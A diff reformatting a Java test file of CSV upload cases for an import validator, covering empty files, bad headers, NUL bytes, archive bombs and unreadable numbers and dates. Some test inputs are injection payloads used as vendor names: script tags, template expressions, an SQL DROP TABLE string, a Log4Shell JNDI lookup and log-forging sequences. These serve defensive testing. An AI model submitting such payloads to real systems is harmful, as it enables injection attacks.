@@ -33,20 +33,20 @@ final class UploadCases {
 	}
 
 	static Stream<UploadCase> all() {
-		return Stream.of(
-				UploadCase.failed("c01 empty", "", "file-empty"),
+		return Stream.of(UploadCase.failed("c01 empty", "", "file-empty"),
 				UploadCase.failed("c01 blank", " \r\n\t\r\n", "file-empty"),
 				UploadCase.failed("c01 only a byte order mark", "\uFEFF", "file-empty"),
 				UploadCase.failed("c02 header only", HEADER + "\n", "file-empty"),
 				UploadCase.failed("c03 no header", lines(good().subList(1, 101)), "header-missing"),
 				UploadCase.waiting("c04 wrong header", header("alpha,beta,gamma,delta,epsilon"), "column-required"),
 				UploadCase.whole("c05 other order and case", reversed()),
-				UploadCase.failed("c06 a column twice", each((line) -> line + ",5", HEADER + ",Amount "),
-						"header-duplicate")
+				UploadCase
+					.failed("c06 a column twice", each((line) -> line + ",5", HEADER + ",Amount "), "header-duplicate")
 					.at(null, "Amount"),
 				UploadCase.failed("c06 a blank header", header(HEADER.replace("vendor_name", "")), "header-blank"),
-				UploadCase.waiting("c07 a column missing", each(UploadCases::withoutLast, withoutLast(HEADER)),
-						"column-required")
+				UploadCase
+					.waiting("c07 a column missing", each(UploadCases::withoutLast, withoutLast(HEADER)),
+							"column-required")
 					.at(null, "amount"),
 				UploadCase.whole("c08 an extra column", each((line) -> "x," + line, "note," + HEADER)),
 				UploadCase.whole("c09 semicolons", text().replace(',', ';')),
@@ -64,20 +64,20 @@ final class UploadCases {
 						"quote-unbalanced"),
 				UploadCase.oneBad("c18 a run of NULs", with("T51,2026-03-24," + "\0".repeat(50) + ",44103,10.00"),
 						"text-control-character"),
-				UploadCase.oneBad("c18 one NUL", with("T51,2026-03-24,Ven\0dor,44103,10.00"),
-						"text-control-character"),
+				UploadCase.oneBad("c18 one NUL", with("T51,2026-03-24,Ven\0dor,44103,10.00"), "text-control-character"),
 				UploadCase.failed("c18 nothing but NULs", new byte[100_000], "file-damaged"),
 				UploadCase.failed("c19 random bytes", random(), null),
-				UploadCase.failed("c20 an Excel file of old", latin("\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1 old"),
-						"file-type"),
+				UploadCase.failed("c20 an Excel file of old",
+						latin("\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1 old"), "file-type"),
 				UploadCase.failed("c20 a workbook", workbook(), "file-type"),
 				UploadCase.failed("c20 a bomb", bomb(), "archive-bomb").named("purchases.xlsx"),
 				UploadCase.failed("c21 a web page", "<!DOCTYPE html><html><body><table><tr><td>" + text(), "file-type"),
-				UploadCase.oneBad("c22 20 MB in one field", with(ROW.replace("Vendor 2", "x".repeat(20 << 20))),
-						"text-too-long"),
+				UploadCase.oneBad(
+						"c22 20 MB in one field", with(ROW.replace("Vendor 2", "x".repeat(20 << 20))), "text-too-long"),
 				UploadCase.failed("c23 50,000 columns", wide(), "columns-too-many"),
-				UploadCase.previewed("c24 50,000 bad rows", HEADER + "\n" + row(1) + "\n"
-						+ "T1,2026-02-30,Vendor,44103,free\n".repeat(50_000), 1, 50_000, 0, "10.00"),
+				UploadCase.previewed("c24 50,000 bad rows",
+						HEADER + "\n" + row(1) + "\n" + "T1,2026-02-30,Vendor,44103,free\n".repeat(50_000), 1, 50_000,
+						0, "10.00"),
 				UploadCase.previewed("c25 blank lines", blankLines(), 100, 0, 4, "1000.00"),
 				UploadCase.previewed("c25 the header again", again(), 100, 0, 1, "1000.00"),
 				UploadCase.previewed("c26 a grand total", text() + ",,Grand Total,,1000.00\n", 100, 0, 1, "1000.00")
@@ -90,12 +90,12 @@ final class UploadCases {
 				UploadCase.whole("c29 markup", named("<script>alert(1)</script>", "{{7*7}}", "${7*7}", "[[${1}]]")),
 				UploadCase.whole("c30 words of databases", named("\\.", "\\N", "'; DROP TABLE import; --", "\\\\")),
 				UploadCase.whole("c31 words of logs", named("${jndi:ldap://x/y}", "%0d%0aINFO forged", "%n%x%s")),
-				UploadCase.previewed("c32 a ZIP without its zero", text().replace("44103", "2139"), 100, 0, 0, "1000.00")
+				UploadCase
+					.previewed("c32 a ZIP without its zero", text().replace("44103", "2139"), 100, 0, 0, "1000.00")
 					.telling("zip-padded"),
 				UploadCase.oneBad("c33 NaN", with(ROW.replace("10.00", "NaN")), "number-unreadable"),
 				UploadCase.oneBad("c33 an exponent", with(ROW.replace("10.00", "1e3")), "number-unreadable"),
-				UploadCase.oneBad("c33 Arabic digits", with(ROW.replace("10.00", "\u0661\u0660")),
-						"number-unreadable"),
+				UploadCase.oneBad("c33 Arabic digits", with(ROW.replace("10.00", "\u0661\u0660")), "number-unreadable"),
 				UploadCase.oneBad("c34 infinity", with(ROW.replace("2026-03-24", "infinity")), "date-unreadable"),
 				UploadCase.oneBad("c34 now", with(ROW.replace("2026-03-24", "now")), "date-unreadable"),
 				UploadCase.oneBad("c34 30 February", with(ROW.replace("2026-03-24", "2026-02-30")), "date-impossible"),
@@ -156,8 +156,8 @@ final class UploadCases {
 	private static String named(String... vendors) {
 		List<String> lines = good();
 		for (int at = 0; at < vendors.length; at++) {
-			lines.set(at + 10, row(at + 10).replaceAll("Vendor \\d", "\"" + vendors[at].replace("\\", "\\\\")
-				.replace("$", "\\$") + "\""));
+			lines.set(at + 10, row(at + 10).replaceAll("Vendor \\d",
+					"\"" + vendors[at].replace("\\", "\\\\").replace("$", "\\$") + "\""));
 		}
 		return lines(lines);
 	}
